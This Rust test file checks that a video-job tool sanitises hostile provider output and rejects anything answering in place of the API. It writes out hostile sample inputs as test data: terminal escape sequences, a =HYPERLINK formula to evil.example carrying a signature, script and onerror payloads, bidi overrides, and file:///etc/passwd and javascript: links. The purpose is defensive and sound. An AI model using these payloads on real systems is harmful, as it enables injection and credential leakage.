//! Hostile texts and links from the provider.

use std::fmt::Write as _;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use callsheet::sandbox::{FaultTrigger, Faults, FileFault};

use crate::program::{Folder, KEYS, PERSONA, Scenario, campaign_at, contains};

/// A scenario whose texts contain these directives for the sandbox.
fn with_directives(directives: &[&str]) -> Scenario {
    let mut sheet = String::from("id,text,persona,aspect_ratio\n");
    for (number, directive) in directives.iter().enumerate() {
        let directive = directive.replace('"', "\"\"");
        writeln!(sheet, "job-{number},\"Hello {directive}\",{PERSONA},9:16").unwrap();
    }
    Scenario::with_text(&sheet)
}

/// Whether a text has neither control characters nor characters that change the writing direction.
fn is_harmless(text: &str) -> bool {
    text.chars().all(|c| {
        let changes_direction = matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        !changes_direction && (c == '\n' || !c.is_control())
    })
}

#[test]
fn hostile_texts_are_harmless_in_terminal_spreadsheet_and_page() {
    let scenario = with_directives(&[
        r"[fail: \u001b[31mred \u001b\u005d0;owned\u0007 \r\nhint: lie]",
        r#"[reject: =HYPERLINK(\"http://evil.example/?q=a&Signature=s3cr3t\")]"#,
        r"[fail: <script>alert(1)</script></script><img src=x onerror=alert(2)>]",
        r"[fail: \u202egnp.exe \u2066 \u0000 \u009b31m]",
        r"[status: \u001b[2J=cmd()]",
    ]);
    let run = scenario.run_sheet(&["-v", "--suspicious", "allow"]).expect_code(3);
    let mut printed = vec![run.stdout, run.stderr];
    let ids = ["job-0", "job-1", "job-2", "job-3", "job-4"];
    let why = ids.map(|id| vec!["why", "sheet.csv", id]);
    let status = ["status", "sheet.csv", "--json"];
    for command in why.iter().map(|why| &why[..]).chain([&status[..2], &status]) {
        printed.push(scenario.run(command).expect_code(0).stdout);
    }
    for text in &printed {
        assert!(is_harmless(text), "{text:?}");
    }
    let results = scenario.results();
    assert_eq!(results.len(), 5);
    for row in &results {
        for column in ["status", "error", "video_url", "remote_id"] {
            let cell = &row[column];
            let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(is_harmless(cell) && !is_formula, "{cell:?}");
        }
    }
    assert!(results[0]["error"].contains("red"), "{results:?}");
    assert!(results[1]["error"].contains("HYPERLINK"), "{results:?}");

    let page = scenario.read("sheet-output/report.html");
    assert!(!page.contains("<script>alert"), "{page}");
    assert!(!page.contains("<img src=x"), "{page}");
    let json = scenario.read_json("sheet-output/results.json");
    for job in json["jobs"].as_array().unwrap() {
        let error = job["error"].as_str().unwrap_or_default();
        assert!(is_harmless(error), "{job:#}");
    }
    // The signature in these words is redacted. It remains in the sheet's own text, which the results repeat.
    for (path, content) in scenario.everything() {
        let mut parts = path.components();
        let is_journal = parts.any(|part| part.as_os_str() == ".callsheet");
        if is_journal || path.ends_with("sheet.csv") {
            continue;
        }
        let count = String::from_utf8_lossy(&content).matches("s3cr3t").count();
        assert!(count <= 2, "{}: {count}", path.display());
    }
}

#[test]
fn invalid_links_are_refused_and_the_job_stays_collectable() {
    let scenario = with_directives(&[
        "[output: file:///etc/passwd]",
        "[output: ftp://files.example/v.mp4]",
        "[output: javascript:alert(1)]",
        "[output: https://user:word@files.example/v.mp4]",
        "[output: data:video/mp4;base64,AAAA]",
        "[output: nonsense]",
    ]);
    let left = scenario.run_sheet(&[]).expect_code(8);
    left.expect_stderr(&["collect"]);
    for row in scenario.results() {
        assert_eq!(row["status"], "downloading", "{row:?}");
        assert!(!row["error"].is_empty(), "{row:?}");
    }
    let videos = std::fs::read_dir(scenario.path("sheet-output/videos"));
    assert_eq!(videos.map_or(0, Iterator::count), 0);
    assert_eq!(scenario.accepted(), 6);
    // A later attempt is refused too, and pays for nothing.
    scenario.collect_sheet(&[]).expect_code(8);
    assert_eq!(scenario.accepted(), 6);
    let page = scenario.read("sheet-output/report.html");
    for link in ["href=\"javascript:", "src=\"file:"] {
        assert!(!page.contains(link), "{page}");
    }
}

#[test]
fn a_file_larger_than_any_video_is_refused_before_it_fills_the_disk() {
    let faults = Faults {
        files: [(FileFault::TooLong, FaultTrigger::always().amount(10_000_000_000))].into(),
        ..Faults::default()
    };
    let scenario = Scenario::with_faults(1, faults);
    let left = scenario.run_sheet(&[]).expect_code(8);
    left.expect_stderr(&["collect"]);
    let error = &scenario.results()[0]["error"];
    assert!(error.contains("over the limit"), "{error}");
    assert!(!scenario.exists("sheet-output/videos/job-01.mp4.part"));
}

#[test]
fn credentials_and_signatures_are_in_no_file_that_is_shared() {
    let faults = Faults {
        // Links that can expire are signed.
        files: [(FileFault::Expires, FaultTrigger::always().amount(60_000))].into(),
        ..Faults::default()
    };
    let scenario = Scenario::with_faults(3, faults);
    let run = scenario.run_sheet(&["-v", "--log-format", "json"]);
    let run = run.expect_code(0);
    let mut shared = vec![("stderr".to_owned(), run.stderr.into_bytes())];
    for (path, content) in scenario.everything() {
        let place = path.display().to_string();
        assert!(!KEYS.iter().any(|key| contains(&content, key)), "{place}");
        let name = path.file_name().unwrap().to_string_lossy();
        if !name.starts_with("journal.sqlite") {
            shared.push((place, content));
        }
    }
    let journal = callsheet::journal::JournalSnapshot::read(&scenario.path("sheet-output"));
    let journal = serde_json::to_string(&journal.unwrap().unwrap().entries).unwrap();
    let (_, query) = journal.split_once(".mp4?").unwrap();
    let signature = query.split(['"', '&']).next().unwrap();
    assert!(signature.len() > 5, "{signature}");
    for (place, content) in shared {
        assert!(!contains(&content, signature), "{place}");
    }
}

#[test]
fn debug_output_does_not_contain_credentials() {
    use callsheet::model::Credentials;
    use callsheet::remote::{Remote, RemoteSettings};

    let credentials = || Credentials::new(KEYS[0].to_owned(), KEYS[1].to_owned());
    let settings = || {
        let address = "https://api.example".parse().unwrap();
        RemoteSettings::new(address, credentials(), "out".into())
    };
    let remote = Remote::new(settings()).unwrap();
    for text in [
        format!("{:?} {:#?}", credentials(), credentials()),
        format!("{:?} {:#?}", settings(), settings()),
        format!("{remote:?} {remote:#?}"),
    ] {
        assert!(!KEYS.iter().any(|key| text.contains(key)), "{text}");
    }
}

/// A server that answers each request as `respond` says, with status and body. Returns its address and the first lines of
/// the requests.
fn serve(
    respond: impl Fn(&str) -> (u16, &'static str) + Send + 'static,
) -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let requests = Arc::<Mutex<Vec<String>>>::default();
    let seen = Arc::clone(&requests);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let request = read_request(&stream);
            let (status, body) = respond(&request);
            seen.lock().unwrap().push(request);
            let length = body.len();
            // The program may have gone.
            let _ = write!(
                stream,
                "HTTP/1.1 {status} Some\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{body}"
            );
        }
    });
    (address, requests)
}

/// Reads a request and returns its first line.
fn read_request(stream: &TcpStream) -> String {
    let mut reader = BufReader::new(stream);
    let mut head = String::new();
    while !head.ends_with("\r\n\r\n") && reader.read_line(&mut head).unwrap_or(0) > 0 {}
    let length = head.lines().find_map(|line| {
        let (name, value) = line.split_once(": ")?;
        name.eq_ignore_ascii_case("content-length").then(|| value.parse().unwrap())
    });
    let mut body = vec![0; length.unwrap_or(0)];
    let _ = reader.read_exact(&mut body);
    head.lines().next().unwrap_or_default().to_owned()
}

const PAGE: &str = "<!DOCTYPE html><html><title>Just a moment...</title></html>";

#[test]
fn a_page_in_place_of_the_api_ends_the_run_before_the_first_create() {
    for status in [200, 400, 403, 451] {
        let (address, requests) = serve(move |_| (status, PAGE));
        let folder = Folder::with_sheet(3);
        let run = folder.run(&campaign_at("run", &address, &["--yes"])).expect_code(6);
        let run =
            run.expect_stderr(&["not the API answered: an HTML page titled `Just a moment...`"]);
        run.expect_not_in_stderr(&["CREATIFY_API_ID", "rows", "line 1 column 1"]);
        let requests = requests.lock().unwrap();
        assert!(!requests.iter().any(|request| request.starts_with("POST")), "{requests:?}");
    }
}

#[test]
fn a_page_in_place_of_the_api_ends_collecting_and_resuming() {
    let has_page = Arc::new(AtomicBool::new(true));
    let is_page = Arc::clone(&has_page);
    let (address, requests) = serve(move |request| {
        if is_page.load(Ordering::Relaxed) {
            (200, PAGE)
        } else if request.starts_with("POST") {
            (201, r#"{"id":"one","status":"pending"}"#)
        } else {
            (200, "[]")
        }
    });
    let folder = Folder::with_sheet(1);
    let expect_end = |command, further: &[&str]| {
        requests.lock().unwrap().clear();
        let ended = folder.run(&campaign_at(command, &address, further)).expect_code(6);
        ended.expect_stderr(&["at `127.0.0.1`, something that is not the API answered"]);
        let requests = requests.lock().unwrap();
        assert!(requests.len() < 10, "{requests:?}");
    };
    // There is nothing to collect yet.
    expect_end("collect", &[]);
    has_page.store(false, Ordering::Relaxed);
    let submit = ["--yes", "--submit-only", "--settle", "1s"];
    folder.run(&campaign_at("run", &address, &submit)).expect_code(8);
    has_page.store(true, Ordering::Relaxed);
    expect_end("collect", &[]);
    expect_end("run", &["--yes"]);
}

#[test]
fn other_answers_than_the_apis_end_the_run_before_the_first_create() {
    for (status, body, expected) in [
        (503, PAGE, "not the API answered: an HTML page titled `Just a moment...`"),
        (511, PAGE, "not the API answered: an HTML page titled `Just a moment...`"),
        (200, "It works!", "not the API answered: the text `It works!`"),
        (200, "null", "not the API answered: the text `null`"),
        (200, "", "not the API answered: an empty answer"),
        (403, "", "at `127.0.0.1`, something in front of the API answered: Forbidden"),
        (401, "go away", "not the API answered: go away"),
    ] {
        let (address, requests) = serve(move |_| (status, body));
        let folder = Folder::with_sheet(3);
        let run = folder.run(&campaign_at("run", &address, &["--yes"])).expect_code(6);
        let run = run.expect_stderr(&[expected, "nothing was submitted"]);
        run.expect_not_in_stderr(&["CREATIFY_API_ID"]);
        let requests = requests.lock().unwrap();
        assert!(!requests.iter().any(|request| request.starts_with("POST")), "{requests:?}");
    }
}

#[test]
fn a_server_of_another_protocol_is_not_the_api() {
    for banner in [&b"SSH-2.0-OpenSSH_9.6\r\n"[..], b"\x15\x03\x01\x00\x02\x02\x46"] {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = format!("http://{}", listener.local_addr().unwrap());
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let mut stream = stream.unwrap();
                let _ = read_request(&stream);
                let _ = stream.write_all(banner);
            }
        });
        let folder = Folder::with_sheet(1);
        let run = folder.run(&campaign_at("run", &address, &["--yes"])).expect_code(6);
        run.expect_stderr(&["does not answer in HTTP", "nothing was submitted"]);
    }
}

#[test]
fn an_overloaded_api_is_waited_for() {
    let requests = AtomicUsize::new(0);
    let (address, _) = serve(move |request| match requests.fetch_add(1, Ordering::Relaxed) {
        0..4 => (503, "<title>503 Service Temporarily Unavailable</title>"),
        4..6 => (503, r#"{"detail":"busy"}"#),
        _ if request.starts_with("POST") => (201, r#"{"id":"one","status":"pending"}"#),
        _ => (200, "[]"),
    });
    let folder = Folder::with_sheet(1);
    let run =
        folder.run(&campaign_at("run", &address, &["--yes", "--submit-only", "--patience", "1m"]));
    run.expect_code(8);
}

#[test]
fn a_page_in_place_of_the_balance_alone_does_not_stop_the_run() {
    let (address, requests) = serve(|request| match request {
        _ if request.contains("remaining_credits") => (403, PAGE),
        _ if request.starts_with("POST") => (201, r#"{"id":"one","status":"pending"}"#),
        _ => (200, "[]"),
    });
    let folder = Folder::with_sheet(1);
    let run = folder.run(&campaign_at("run", &address, &["--yes", "--submit-only"]));
    run.expect_code(8).expect_stderr(&["balance could not be read"]);
    let requests = requests.lock().unwrap();
    let creates = requests.iter().filter(|request| request.starts_with("POST")).count();
    assert_eq!(creates, 1, "{requests:?}");
}
